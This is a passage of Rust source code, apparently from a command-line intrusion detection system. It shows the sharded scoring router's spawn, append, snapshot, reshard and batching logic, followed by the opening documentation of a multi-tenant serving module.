            return Ok(self.resident.read().unwrap().epoch());
        }
        let refs: Vec<&str> = lines.iter().map(String::as_str).collect();
        let views = PooledViews::build_specs(
            &self.pipeline,
            templates
                .iter()
                .map(|(_, t)| (t.wants_embeddings(), t.pooling())),
            &refs,
        );
        let mut fitted = Vec::with_capacity(templates.len());
        for (i, mut template) in templates {
            if let Err(e) = template.fit(&views.for_detector(template.as_ref()), &labels) {
                lc.fail_refit();
                return Err(ServeError::Engine(format!(
                    "refit {:?}: {e}",
                    template.name()
                )));
            }
            fitted.push((i, template));
        }
        let epoch = {
            let mut engine = self.resident.write().unwrap();
            engine.install_refits(fitted)
        };
        self.state_epoch.fetch_add(1, Ordering::AcqRel);
        lc.finish_refit(prefix);
        Ok(epoch)
    }
}

/// A running shard router. Construct with [`ShardRouter::spawn`]; see
/// the module docs for the shape.
pub struct ShardRouter {
    inner: Arc<RouterInner>,
    client: ServiceClient,
    drain_rx: Receiver<Request>,
    stop_batchers: Arc<AtomicBool>,
    batchers: Vec<JoinHandle<()>>,
    pool_workers: Vec<JoinHandle<()>>,
}

impl ShardRouter {
    /// Splits a fitted engine across `config.shards` worker pools and
    /// spawns the scoring front-end.
    ///
    /// # Errors
    ///
    /// * [`ServeError::StreamStructured`] — a detector cannot serve
    ///   per-line verdicts.
    /// * [`ServeError::InvalidConfig`] — bad knobs, or a neighbour
    ///   detector whose fitted index is not sharded `config.shards`
    ///   ways (fit with `IndexConfig::with_shards(n)`, or restore a
    ///   sharded snapshot).
    pub fn spawn(
        pipeline: IdsPipeline,
        engine: FittedEngine,
        config: RouterConfig,
    ) -> Result<ShardRouter, ServeError> {
        Self::spawn_inner(pipeline, engine, config, None)
    }

    /// [`ShardRouter::spawn`] with the online refit lifecycle attached:
    /// appends are logged, merged verdicts feed the drift tracker, and
    /// — in background mode — a refit worker re-fits the resident
    /// unsupervised detectors and swaps the new epoch in whenever a
    /// trigger fires (the per-shard neighbour detectors absorb appends
    /// directly and are never refit).
    pub fn spawn_with_lifecycle(
        pipeline: IdsPipeline,
        engine: FittedEngine,
        config: RouterConfig,
        lifecycle: LifecycleConfig,
    ) -> Result<ShardRouter, ServeError> {
        Self::spawn_inner(pipeline, engine, config, Some(lifecycle))
    }

    fn spawn_inner(
        pipeline: IdsPipeline,
        engine: FittedEngine,
        config: RouterConfig,
        lifecycle: Option<LifecycleConfig>,
    ) -> Result<ShardRouter, ServeError> {
        config.validate()?;
        for det in engine.detectors() {
            if !det.test_aligned() {
                return Err(ServeError::StreamStructured(det.name().to_string()));
            }
        }
        let method_names: Vec<String> = engine.method_names().iter().map(|&n| n.into()).collect();

        let mut resident: Vec<Box<dyn Detector>> = Vec::new();
        let mut metas: Vec<ShardedMethodMeta> = Vec::new();
        let mut plan: Vec<Slot> = Vec::new();
        let mut shard_methods: Vec<Vec<Option<ShardSlot>>> =
            (0..config.shards).map(|_| Vec::new()).collect();

        for det in engine.into_detectors() {
            let Some(merge) = det.shard_merge() else {
                plan.push(Slot::Resident(resident.len()));
                resident.push(det);
                continue;
            };
            let state = DetectorState::capture(det.as_ref())
                .expect("shard-mergeable detectors are snapshot-capable");
            let split = state.split_shards().map_err(|_| {
                ServeError::InvalidConfig(format!(
                    "method {:?} was not fitted over a sharded index; fit it with \
                     IndexConfig::with_shards({})",
                    det.name(),
                    config.shards
                ))
            })?;
            if split.params.shards != config.shards {
                return Err(ServeError::InvalidConfig(format!(
                    "method {:?} is sharded {} ways but the router was configured for {}",
                    det.name(),
                    split.params.shards,
                    config.shards
                )));
            }
            let total: usize = split.globals.iter().map(Vec::len).sum();
            for ((methods, sub), map) in shard_methods
                .iter_mut()
                .zip(split.states)
                .zip(split.globals)
            {
                methods.push(sub.map(|s| ShardSlot {
                    det: s.restore(),
                    globals: map,
                }));
            }
            plan.push(Slot::Sharded(metas.len()));
            metas.push(ShardedMethodMeta {
                name: split.name,
                spec: (det.wants_embeddings(), det.pooling()),
                merge,
                k: split.k,
                params: split.params,
                quant: split.quant,
                dim: split.dim,
                malicious_only: !det.indexes_label(false),
                next_global: Mutex::new(total),
            });
        }

        let stop_pools = Arc::new(AtomicBool::new(false));
        let pool_specs: Arc<Vec<ViewSpec>> = Arc::new(metas.iter().map(|m| m.spec).collect());
        // Bounded by in-flight batches: each batcher has at most one
        // scatter outstanding per shard.
        let pool_queue_bound = config.serve.workers * 2;
        let mut pool_workers = Vec::new();
        let pools = spawn_pools(
            shard_methods,
            config.shard_workers,
            pool_queue_bound,
            &pool_specs,
            &stop_pools,
            &mut pool_workers,
        );

        let lifecycle = lifecycle.map(LifecycleState::new).transpose()?;
        let inner = Arc::new(RouterInner {
            pipeline,
            resident: RwLock::new(FittedEngine::from_detectors(resident)),
            metas,
            plan,
            pools: RwLock::new(Arc::new(pools)),
            shards: AtomicUsize::new(config.shards),
            method_names: method_names.clone(),
            counters: Counters::default(),
            append_lock: Mutex::new(()),
            state_epoch: Arc::new(AtomicU64::new(0)),
            lifecycle,
            shard_workers: config.shard_workers,
            pool_queue_bound,
            pool_specs,
            stop_pools,
            extra_workers: Mutex::new(Vec::new()),
        });
        let (tx, rx) = bounded::<Request>(config.serve.queue_capacity);
        let gate: Arc<CloseGate> = Arc::new(RwLock::new(false));
        let stop_batchers = Arc::new(AtomicBool::new(false));
        let mut batchers: Vec<JoinHandle<()>> = (0..config.serve.workers)
            .map(|_| {
                let inner = inner.clone();
                let rx = rx.clone();
                let stop = stop_batchers.clone();
                std::thread::spawn(move || batcher_loop(&inner, &rx, &stop, &config.serve))
            })
            .collect();
        if inner
            .lifecycle
            .as_ref()
            .is_some_and(LifecycleState::background)
        {
            let inner = inner.clone();
            let stop = stop_batchers.clone();
            batchers.push(std::thread::spawn(move || router_refit_loop(&inner, &stop)));
        }
        Ok(ShardRouter {
            inner,
            client: ServiceClient::new(tx, gate, method_names.into()),
            drain_rx: rx,
            stop_batchers,
            batchers,
            pool_workers,
        })
    }

    /// A cloneable submission handle (same protocol as the single
    /// service's).
    pub fn client(&self) -> ServiceClient {
        self.client.clone()
    }

    /// Names (registration order) the per-line score vectors follow.
    pub fn method_names(&self) -> &[String] {
        &self.inner.method_names
    }

    /// Scores one arriving line with every method (resident and
    /// shard-merged), blocking until the verdict is ready.
    pub fn score_line(&self, line: &str) -> Result<Vec<f32>, ServeError> {
        self.client.score_line(line)
    }

    /// Scores a batch of arriving lines; one score vector per line.
    pub fn score_batch(&self, lines: &[String]) -> Result<Vec<Vec<f32>>, ServeError> {
        self.client.score_batch(lines)
    }

    /// Monotonic micro-batch/line counters.
    pub fn stats(&self) -> crate::ServiceStats {
        self.inner.counters.stats()
    }

    /// Per-shard exemplar counts of a partitioned method (diagnostics;
    /// `None` for resident or unknown methods).
    pub fn shard_row_counts(&self, method: &str) -> Option<Vec<usize>> {
        let m = self
            .inner
            .metas
            .iter()
            .position(|meta| meta.name == method)?;
        Some(
            self.inner
                .pools()
                .iter()
                .map(|pool| {
                    pool.state.read().unwrap().methods[m]
                        .as_ref()
                        .map_or(0, |slot| slot.globals.len())
                })
                .collect(),
        )
    }

    /// Runs one epoch-swapped refit of the resident engine now, on the
    /// caller's thread (see [`crate::ScoringService::refit`] — the
    /// per-shard neighbour detectors absorb appends directly and are
    /// never refit). Returns the resident engine epoch after the swap.
    pub fn refit(&self) -> Result<u64, ServeError> {
        self.inner.run_refit()
    }

    /// The resident engine's detector generation: 0 at spawn, +1 per
    /// refit swap.
    pub fn engine_epoch(&self) -> u64 {
        self.inner.resident.read().unwrap().epoch()
    }

    /// The detector-state epoch: bumped on every absorbed append,
    /// refit swap, and reshard.
    pub fn state_epoch(&self) -> u64 {
        self.inner.state_epoch.load(Ordering::Acquire)
    }

    /// The shared state-epoch counter, for wiring a
    /// [`crate::VerdictCache`] onto the same invalidation source.
    pub(crate) fn state_epoch_handle(&self) -> Arc<AtomicU64> {
        self.inner.state_epoch.clone()
    }

    /// Lifecycle counters and trigger state; `None` when spawned
    /// without a lifecycle.
    pub fn lifecycle_stats(&self) -> Option<LifecycleStats> {
        self.inner.lifecycle.as_ref().map(LifecycleState::stats)
    }

    /// The current shard count (changes only through
    /// [`ShardRouter::reshard`]).
    pub fn shards(&self) -> usize {
        self.inner.shards.load(Ordering::Acquire)
    }

    /// Absorbs freshly-labeled supervision: lines are embedded once
    /// per pooled space, then each exemplar is routed to its owning
    /// shard (the partitioner hash) and inserted under **that shard's
    /// write lock only** — scoring against the other shards never
    /// stalls. Returns how many methods absorbed the batch.
    pub fn append(&self, lines: &[String], labels: &[bool]) -> Result<usize, ServeError> {
        if lines.len() != labels.len() {
            return Err(ServeError::Engine(format!(
                "one label per line required: {} lines, {} labels",
                lines.len(),
                labels.len()
            )));
        }
        if lines.is_empty() {
            return Ok(0);
        }
        let refs: Vec<&str> = lines.iter().map(String::as_str).collect();
        let inner = &*self.inner;
        // Embed before taking any lock: one pass per pooled space an
        // absorbing consumer reads.
        let resident_specs: Vec<ViewSpec> = {
            let engine = inner.resident.read().unwrap();
            engine
                .detectors()
                .iter()
                .filter(|d| d.absorbs_appends())
                .map(|d| (d.wants_embeddings(), d.pooling()))
                .collect()
        };
        let specs = resident_specs
            .iter()
            .copied()
            .chain(inner.metas.iter().map(|m| m.spec));
        let views = PooledViews::build_specs(&inner.pipeline, specs, &refs);

        // Appends serialize with each other (dense id assignment, and
        // per-shard maps must extend in id order) and with reshards
        // (shard ownership must not move mid-batch); readers don't
        // take this lock.
        let _guard = inner.append_lock.lock().unwrap();
        let pools = inner.pools();
        let mut absorbed = 0usize;
        if !resident_specs.is_empty() {
            let mut engine = inner.resident.write().unwrap();
            absorbed += engine
                .append_each(labels, |det| views.for_detector(det))
                .map_err(|e| ServeError::Engine(e.to_string()))?;
        }
        for (m, meta) in inner.metas.iter().enumerate() {
            let view = views.view_for(meta.spec);
            let matrix = view.matrix();
            // Route each row the method indexes to its owning shard,
            // assigning global ids in batch order — exactly the dense
            // numbering the unsharded detector would produce.
            let shards = inner.shards.load(Ordering::Acquire);
            let mut rows: Vec<Vec<usize>> = vec![Vec::new(); shards];
            let mut ids: Vec<Vec<usize>> = vec![Vec::new(); shards];
            {
                let mut next = meta.next_global.lock().unwrap();
                for (r, &label) in labels.iter().enumerate() {
                    if meta.malicious_only && !label {
                        continue;
                    }
                    let s = shard_for_row(meta.params.seed, shards, matrix.row(r));
                    rows[s].push(r);
                    ids[s].push(*next);
                    *next += 1;
                }
            }
            for (s, pool) in pools.iter().enumerate() {
                if rows[s].is_empty() {
                    continue;
                }
                let mut sub = Matrix::zeros(0, meta.dim);
                let mut sub_labels = Vec::with_capacity(rows[s].len());
                for &r in &rows[s] {
                    sub.push_row(matrix.row(r));
                    sub_labels.push(labels[r]);
                }
                let mut state = pool.state.write().unwrap();
                match &mut state.methods[m] {
                    Some(slot) => {
                        let sub_view = cmdline_ids::engine::EmbeddingView::from_matrix(sub);
                        slot.det
                            .append(&sub_view, &sub_labels)
                            .map_err(|e| ServeError::Engine(e.to_string()))?;
                        slot.globals.extend_from_slice(&ids[s]);
                    }
                    empty @ None => {
                        // First rows for this shard: build its
                        // sub-index from scratch (an O(rows) build —
                        // the only construction a router ever runs,
                        // and only for a shard that had nothing).
                        let det = new_shard_detector(meta, &sub, &sub_labels);
                        *empty = Some(ShardSlot {
                            det,
                            globals: ids[s].clone(),
                        });
                    }
                }
            }
            absorbed += 1;
        }
        drop(pools);
        drop(_guard);
        // State changed: bump the shared epoch and log the batch for
        // the next refit's training set (same discipline as the single
        // service).
        inner.state_epoch.fetch_add(1, Ordering::AcqRel);
        if let Some(lc) = &inner.lifecycle {
            lc.record_appends(lines, labels);
        }
        Ok(absorbed)
    }

    /// Reassembles the persistable state: every partitioned method
    /// merges back into one manifest + N shard frames
    /// ([`ShardedDetectorState::merge`]); resident snapshot-capable
    /// detectors capture as usual. Returns the snapshot plus the names
    /// of detectors that were not capturable.
    ///
    /// The whole capture runs at a single consistent epoch: appends
    /// and reshards are excluded by the append lock, every resident
    /// detector captures under **one** engine read guard (a refit's
    /// write-locked swap cannot interleave two resident captures), and
    /// the state epoch is checked around the capture — a refit that
    /// landed between the epoch read and the guard acquisition
    /// surfaces as a typed [`ServeError::SnapshotRace`] instead of a
    /// mixed-epoch frame.
    pub fn snapshot(&self) -> Result<(ServiceSnapshot, Vec<String>), ServeError> {
        let inner = &*self.inner;
        // Exclude appends + reshards for a consistent cross-shard
        // view; scoring readers keep serving.
        let _guard = inner.append_lock.lock().unwrap();
        let before = inner.state_epoch.load(Ordering::Acquire);
        let pools = inner.pools();
        let engine = inner.resident.read().unwrap();
        let mut states = Vec::new();
        let mut skipped = Vec::new();
        for slot in &inner.plan {
            match slot {
                Slot::Resident(i) => {
                    let det = &engine.detectors()[*i];
                    match DetectorState::capture(det.as_ref()) {
                        Some(state) => states.push(state),
                        None => skipped.push(det.name().to_string()),
                    }
                }
                Slot::Sharded(m) => {
                    let meta = &inner.metas[*m];
                    let mut sub_states = Vec::with_capacity(pools.len());
                    let mut globals = Vec::with_capacity(pools.len());
                    for pool in pools.iter() {
                        let state = pool.state.read().unwrap();
                        match &state.methods[*m] {
                            Some(slot) => {
                                sub_states.push(Some(
                                    DetectorState::capture(slot.det.as_ref())
                                        .expect("neighbour sub-detectors are capturable"),
                                ));
                                globals.push(slot.globals.clone());
                            }
                            None => {
                                sub_states.push(None);
                                globals.push(Vec::new());
                            }
                        }
                    }
                    states.push(
                        ShardedDetectorState {
                            name: meta.name,
                            k: meta.k,
                            params: inner.current_params(meta),
                            quant: meta.quant,
                            dim: meta.dim,
                            states: sub_states,
                            globals,
                        }
                        .merge(),
                    );
                }
            }
        }
        drop(engine);
        let after = inner.state_epoch.load(Ordering::Acquire);
        if before != after {
            return Err(ServeError::SnapshotRace { before, after });
        }
        Ok((ServiceSnapshot::from_states(states), skipped))
    }

    /// Splits (or merges) the live shard set to `new_shards` without
    /// stopping the router. Appends are excluded for the duration;
    /// scoring continues on the old partition throughout and switches
    /// to the new one atomically — a micro-batch gathers from whichever
    /// pool set it was scattered to, never a mix.
    ///
    /// Every partitioned method is reassembled
    /// ([`ShardedDetectorState::merge`]), its exemplar rows decoded in
    /// global-id order, and re-fitted under the new partition shape
    /// with the *same* partitioner seed and backend — so on exact
    /// backends the merged verdicts are bit-identical before and after
    /// the split (partition-invariance, `tests/shard_router_parity.rs`),
    /// and global exemplar ids are preserved exactly.
    pub fn reshard(&self, new_shards: usize) -> Result<(), ServeError> {
        if new_shards == 0 {
            return Err(ServeError::InvalidConfig(
                "shards must be >= 1 (no partition would own any exemplar)".into(),
            ));
        }
        let inner = &*self.inner;
        // Excludes appends (ownership must not move mid-batch) and
        // other reshards; scoring readers never take this lock.
        let _guard = inner.append_lock.lock().unwrap();
        let old_shards = inner.shards.load(Ordering::Acquire);
        if new_shards == old_shards {
            return Ok(());
        }
        let pools = inner.pools();
        let mut new_methods: Vec<Vec<Option<ShardSlot>>> = (0..new_shards)
            .map(|_| Vec::with_capacity(inner.metas.len()))
            .collect();
        for (m, meta) in inner.metas.iter().enumerate() {
            let mut sub_states = Vec::with_capacity(pools.len());
            let mut globals = Vec::with_capacity(pools.len());
            for pool in pools.iter() {
                let state = pool.state.read().unwrap();
                match &state.methods[m] {
                    Some(slot) => {
                        sub_states.push(Some(
                            DetectorState::capture(slot.det.as_ref())
                                .expect("neighbour sub-detectors are capturable"),
                        ));
                        globals.push(slot.globals.clone());
                    }
                    None => {
                        sub_states.push(None);
                        globals.push(Vec::new());
                    }
                }
            }
            let total: usize = globals.iter().map(Vec::len).sum();
            if total == 0 {
                for methods in &mut new_methods {
                    methods.push(None);
                }
                continue;
            }
            let merged = ShardedDetectorState {
                name: meta.name,
                k: meta.k,
                params: ShardedParams {
                    shards: old_shards,
                    ..meta.params
                },
                quant: meta.quant,
                dim: meta.dim,
                states: sub_states,
                globals,
            }
            .merge();
            let (rows, labels) = global_rows(&merged, meta.dim, total);
            let config = IndexConfig::sharded(ShardedParams {
                shards: new_shards,
                ..meta.params
            })
            .with_quant(meta.quant);
            let refit: Box<dyn Detector> = match meta.name {
                "vanilla-knn" => Box::new(VanillaKnnMethod::from_fitted(VanillaKnn::fit_with(
                    &rows, &labels, meta.k, config, None,
                ))),
                _ => Box::new(RetrievalMethod::from_fitted(RetrievalDetector::fit_with(
                    &rows, &labels, meta.k, config, None,
                ))),
            };
            let split = DetectorState::capture(refit.as_ref())
                .expect("freshly fitted neighbour detectors are capturable")
                .split_shards()
                .expect("just fitted over a sharded index");
            for ((methods, sub), map) in new_methods.iter_mut().zip(split.states).zip(split.globals)
            {
                methods.push(sub.map(|s| ShardSlot {
                    det: s.restore(),
                    globals: map,
                }));
            }
        }
        // Spawn the replacement pools and swap them in. Old pool
        // workers drain their in-flight scatters, then exit when the
        // last Arc to the old pool set (and with it the job senders)
        // drops; their handles are joined at shutdown.
        let new_pools = {
            let mut extra = inner.extra_workers.lock().unwrap();
            spawn_pools(
                new_methods,
                inner.shard_workers,
                inner.pool_queue_bound,
                &inner.pool_specs,
                &inner.stop_pools,
                &mut extra,
            )
        };
        *inner.pools.write().unwrap() = Arc::new(new_pools);
        inner.shards.store(new_shards, Ordering::Release);
        // The partition changed shape: treat it as a detector-state
        // change (HNSW shard graphs are rebuilt, so verdicts may
        // legitimately differ post-split on approximate backends).
        inner.state_epoch.fetch_add(1, Ordering::AcqRel);
        Ok(())
    }

    /// Stops accepting requests, finishes in-flight micro-batches, and
    /// joins every batcher and shard worker. Queued-but-unscored
    /// requests observe [`ServeError::Closed`]. Dropping the router
    /// does the same.
    pub fn shutdown(mut self) {
        self.shutdown_in_place();
    }

    fn shutdown_in_place(&mut self) {
        {
            let mut closed = self.client.close_gate().write().unwrap();
            if *closed {
                return;
            }
            *closed = true;
        }
        // Batchers first (their in-flight batches still need the shard
        // pools), pools second — including any workers spawned for
        // resharded pool sets.
        self.stop_batchers.store(true, Ordering::Release);
        for handle in self.batchers.drain(..) {
            let _ = handle.join();
        }
        self.inner.stop_pools.store(true, Ordering::Release);
        for handle in self.pool_workers.drain(..) {
            let _ = handle.join();
        }
        for handle in self.inner.extra_workers.lock().unwrap().drain(..) {
            let _ = handle.join();
        }
        while self.drain_rx.try_recv().is_ok() {}
    }
}

impl Drop for ShardRouter {
    fn drop(&mut self) {
        self.shutdown_in_place();
    }
}

/// Spawns one worker pool per shard over the given per-shard method
/// slots, pushing the worker handles onto `workers_out`. Used at spawn
/// and again by [`ShardRouter::reshard`] for replacement pool sets.
fn spawn_pools(
    shard_methods: Vec<Vec<Option<ShardSlot>>>,
    shard_workers: usize,
    queue_bound: usize,
    specs: &Arc<Vec<ViewSpec>>,
    stop: &Arc<AtomicBool>,
    workers_out: &mut Vec<JoinHandle<()>>,
) -> Vec<ShardPool> {
    let mut pools = Vec::with_capacity(shard_methods.len());
    for methods in shard_methods {
        let state = Arc::new(RwLock::new(ShardState { methods }));
        let (tx, rx) = bounded::<ShardJob>(queue_bound);
        for _ in 0..shard_workers {
            let rx = rx.clone();
            let state = state.clone();
            let stop = stop.clone();
            let specs = specs.clone();
            workers_out.push(std::thread::spawn(move || {
                pool_loop(&rx, &state, &stop, &specs)
            }));
        }
        pools.push(ShardPool { tx, state });
    }
    pools
}

/// Decodes a merged neighbour state's exemplar rows back into
/// global-id order, plus the per-row labels a re-fit needs (all-true
/// for retrieval, whose index holds only malicious exemplars). The
/// quantized storage decodes losslessly — stored values are already
/// on the quantization grid — so the re-fit re-encodes bit-identical
/// candidates.
fn global_rows(state: &DetectorState, dim: usize, total: usize) -> (Matrix, Vec<bool>) {
    let (index, labels) = match state {
        DetectorState::Retrieval { index, .. } => (index, vec![true; total]),
        DetectorState::VanillaKnn { index, labels, .. } => (index, labels.clone()),
        // Flat states never shard (`split_shards` rejects them), so the
        // router only ever merges neighbour states.
        DetectorState::Structural { .. } => {
            unreachable!("structural state is not shard-mergeable")
        }
    };
    let IndexSnapshot::Sharded {
        shards, globals, ..
    } = index
    else {
        unreachable!("merge always produces a sharded manifest");
    };
    let mut rows: Vec<Vec<f32>> = vec![Vec::new(); total];
    for (sub, map) in shards.iter().zip(globals) {
        let data = match sub {
            IndexSnapshot::Exact { data, .. } | IndexSnapshot::Hnsw { data, .. } => data,
            IndexSnapshot::Sharded { .. } => unreachable!("shards do not nest"),
        };
        for (local, &g) in map.iter().enumerate() {
            rows[g] = data.decode_row(local);
        }
    }
    (Matrix::from_fn(total, dim, |r, c| rows[r][c]), labels)
}

/// The router's background refit worker (see the single service's
/// `refit_loop` — same trigger discipline).
fn router_refit_loop(inner: &RouterInner, stop: &AtomicBool) {
    let Some(lc) = inner.lifecycle.as_ref() else {
        return;
    };
    while !stop.load(Ordering::Acquire) {
        if lc.refit_pending() {
            if let Err(e) = inner.run_refit() {
                eprintln!("serve: background refit failed: {e}");
            }
        }
        std::thread::sleep(IDLE_POLL);
    }
}

/// Builds a brand-new per-shard detector from its first exemplars.
fn new_shard_detector(
    meta: &ShardedMethodMeta,
    rows: &Matrix,
    labels: &[bool],
) -> Box<dyn Detector> {
    let config: IndexConfig = meta.params.backend.config().with_quant(meta.quant);
    match meta.name {
        "vanilla-knn" => Box::new(VanillaKnnMethod::from_fitted(VanillaKnn::fit_with(
            rows, labels, meta.k, config, None,
        ))),
        _ => Box::new(RetrievalMethod::from_fitted(RetrievalDetector::fit_with(
            rows,
            &vec![true; rows.rows()],
            meta.k,
            config,
            None,
        ))),
    }
}

/// One shard worker: answers scatter jobs with the shard's per-line
/// top-k candidates for every partitioned method, ids mapped to the
/// method's global exemplar space.
fn pool_loop(
    rx: &Receiver<ShardJob>,
    state: &RwLock<ShardState>,
    stop: &AtomicBool,
    specs: &[ViewSpec],
) {
    loop {
        let job = match rx.recv_timeout(IDLE_POLL) {
            Ok(job) => job,
            Err(RecvTimeoutError::Timeout) => {
                if stop.load(Ordering::Acquire) {
                    return;
                }
                continue;
            }
            Err(RecvTimeoutError::Disconnected) => return,
        };
        // Contain per-shard scoring panics: dropping the reply sender
        // surfaces as an aborted batch (`Closed`) at the callers
        // instead of wedging the gather.
        let answer = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
            let state = state.read().unwrap();
            specs
                .iter()
                .zip(&state.methods)
                .map(|(&spec, slot)| match slot {
                    Some(slot) => {
                        let mut cands = slot.det.shard_candidates(&job.views.view_for(spec));
                        for line in &mut cands {
                            for c in line.iter_mut() {
                                c.id = slot.globals[c.id];
                            }
                        }
                        cands
                    }
                    None => vec![Vec::new(); job.views.len()],
                })
                .collect::<ShardAnswer>()
        }));
        match answer {
            Ok(answer) => {
                let _ = job.reply.send((job.shard, answer));
            }
            Err(_) => drop(job),
        }
    }
}

/// One front batcher: forms a micro-batch, embeds it once per pooled
/// space, scatters to the shard pools, scores resident detectors
/// meanwhile, gathers + merges, and replies per request.
fn batcher_loop(
    inner: &RouterInner,
    rx: &Receiver<Request>,
    stop: &AtomicBool,
    config: &ServeConfig,
) {
    while let Some(requests) = collect_batch(rx, stop, config.max_batch, config.batch_window) {
        let all_lines: Vec<String> = requests
            .iter()
            .flat_map(|r| r.lines.iter().cloned())
            .collect();
        let scored = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
            score_micro_batch(inner, &all_lines)
        }));
        match scored {
            Ok(Some(scored)) => {
                let mut scored = scored.into_iter();
                for req in requests {
                    let reply: Vec<Vec<f32>> = scored.by_ref().take(req.lines.len()).collect();
                    req.reply.send(reply);
                }
            }
            // A dead pool or a panic aborts the batch: dropped reply
            // senders surface as `Closed` at the blocked callers.
            Ok(None) | Err(_) => drop(requests),
        }
    }
}

/// Scores one micro-batch end to end; `None` if a shard pool vanished
/// mid-gather (shutdown race or a poisoned shard).
fn score_micro_batch(inner: &RouterInner, lines: &[String]) -> Option<Vec<Vec<f32>>> {
    let refs: Vec<&str> = lines.iter().map(String::as_str).collect();
    let resident_specs: Vec<ViewSpec> = {
        let engine = inner.resident.read().unwrap();
        engine
            .detectors()
            .iter()
            .map(|d| (d.wants_embeddings(), d.pooling()))
            .collect()
    };
    let specs = resident_specs
        .iter()
        .copied()
        .chain(inner.metas.iter().map(|m| m.spec));
    let views = PooledViews::build_specs(&inner.pipeline, specs, &refs);

    // Pin the pool set for the whole scatter/gather: a reshard that
    // swaps the pools mid-batch cannot mix partitions — this batch
    // completes entirely on the set it scattered to.
    let pools = inner.pools();

    // Scatter to every shard pool…
    let (reply_tx, reply_rx) = mpsc::channel();
    for (s, pool) in pools.iter().enumerate() {
        let job = ShardJob {
            views: views.clone(),
            shard: s,
            reply: reply_tx.clone(),
        };
        pool.tx.send(job).ok()?;
    }
    drop(reply_tx);

    // …score the resident detectors while the shards work…
    let resident_scores: Vec<Vec<f32>> = if resident_specs.is_empty() {
        Vec::new()
    } else {
        let engine = inner.resident.read().unwrap();
        engine
            .score_each(|det| views.for_detector(det))
            .outputs()
            .iter()
            .map(|m| m.scores.clone())
            .collect()
    };

    // …gather the shard answers…
    let n_shards = pools.len();
    let mut per_shard: Vec<Option<ShardAnswer>> = (0..n_shards).map(|_| None).collect();
    for _ in 0..n_shards {
        let (s, answer) = reply_rx.recv().ok()?;
        per_shard[s] = Some(answer);
    }

    // …and merge per line per partitioned method.
    let merged: Vec<Vec<f32>> = inner
        .metas
        .iter()
        .enumerate()
        .map(|(m, meta)| {
            (0..lines.len())
                .map(|i| {
                    let lists: Vec<&[ShardCandidate]> = per_shard
                        .iter()
                        .map(|a| a.as_ref().expect("gathered")[m][i].as_slice())
                        .collect();
                    let top = merge_shard_candidates(&lists, meta.merge.k());
                    meta.merge.score(&top)
                })
                .collect()
        })
        .collect();

    // Assemble per-line verdicts in registration order.
    let out: Vec<Vec<f32>> = (0..lines.len())
        .map(|i| {
            inner
                .plan
                .iter()
                .map(|slot| match slot {
                    Slot::Resident(r) => resident_scores[*r][i],
                    Slot::Sharded(m) => merged[*m][i],
                })
                .collect()
        })
        .collect();
    if let Some(lc) = &inner.lifecycle {
        lc.observe_scores(observed_means(&out));
    }
    inner.counters.record_batch(lines.len());
    Some(out)
}
