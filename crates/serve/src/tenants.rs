//! Multi-tenant serving: per-tenant exemplar partitions with tiered
//! hot/cold storage under a fixed memory envelope.
//!
//! The paper's premise is per-enterprise behavioural baselines — one
//! exemplar set per tenant, not one global set — but a box cannot
//! hold millions of fitted HNSW graphs resident. This module layers a
//! tenant axis over the existing serving stack and makes residency a
//! *managed* property:
//!
//! * **Per-tenant partitions.** Each tenant owns a private fitted
//!   detector set (retrieval + vanilla-kNN over the configured
//!   [`IndexConfig`]); tenants are routed to one of `groups` lock
//!   domains by the same seeded content-stable FNV-1a hash the
//!   sharded index uses ([`shard_for_row`] over the tenant id's bit
//!   pattern), so every layer that knows `(seed, groups)` agrees on
//!   placement without coordination.
//! * **Tiered storage.** A *hot* tenant holds its fitted engine —
//!   HNSW graphs and all — resident. A *cold* tenant is demoted to a
//!   compact serialized frame: HNSW-backed detectors **drop their
//!   graphs** and keep only the quantized candidate matrix + norms +
//!   build parameters, because the graph is deterministically
//!   reconstructible — `HnswIndex::build_quantized` re-grows the
//!   identical graph from the identical (round-trip-exact) codes,
//!   seed, and draw count (the pinned build ≡ build+insert property).
//!   Everything else falls back to its full [`DetectorState`] frame.
//!   A cold tenant is lazily *promoted* (rebuilt) on first touch.
//! * **A memory envelope.** Every tenant is charged for what its tier
//!   actually holds — [`FittedEngine::resident_bytes`] while hot
//!   (candidate storage + norms + graph adjacency, per the
//!   `candidate_bytes` accounting family), its frame length while
//!   cold — against one configured budget. When the accounted total
//!   exceeds the budget, the least-recently-touched hot tenants are
//!   demoted (LRU eviction) until the total fits or nothing is left
//!   hot (the all-cold floor; [`TenantStats::accounted_bytes`] still
//!   reports it honestly).
//!
//! Bit-identity discipline: a tenant's verdicts — across any
//! interleaving of promotions, demotions, and evictions — are
//! bit-identical to a dedicated single-tenant engine fed the same
//! views (`tests/tenants.rs` pins this by proptest, and the
//! `tenant_scale` bench gates it at 10k tenants), because demotion
//! either keeps lossless state (i8 codes round-trip exactly;
//! dequantize → requantize reproduces codes and scales) or the full
//! frame, and promotion replays the deterministic construction.

use crate::lifecycle::{DriftConfig, DriftDetector};
use crate::service::{observed_means, PooledViews};
use anomaly::{DetectorState, RetrievalDetector, RetrievalMethod, VanillaKnn, VanillaKnnMethod};
use cmdline_ids::engine::{Detector, DetectorError, EmbeddingView, FittedEngine, IndexConfig};
use cmdline_ids::pipeline::IdsPipeline;
use index::persist::{ByteReader, ByteWriter, IndexSnapshot, PersistError};
use index::{shard_for_row, HnswIndex, HnswParams, DEFAULT_SHARD_SEED};
use linalg::quant::QuantizedMatrix;
use linalg::Matrix;
use std::collections::HashMap;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex, RwLock};

/// A tenant identity — the routing and cache key the serving stack
/// threads beside every tenant-scoped request.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct TenantId(pub u64);

impl std::fmt::Display for TenantId {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "tenant-{}", self.0)
    }
}

/// Why a tenant-scoped operation failed.
#[derive(Debug)]
pub enum TenantError {
    /// No tenant with this id exists (create it first).
    Unknown(u64),
    /// A tenant with this id already exists.
    Duplicate(u64),
    /// A raw-line API was called on a service spawned without a
    /// pipeline ([`TenantService::new`] — use the `_view` variants).
    NoPipeline,
    /// Fitting or appending a tenant's detector set failed.
    Engine(String),
    /// The tenant configuration can never serve.
    InvalidConfig(String),
    /// A tenant frame failed to decode (promotion, map restore).
    Persist(PersistError),
}

impl std::fmt::Display for TenantError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
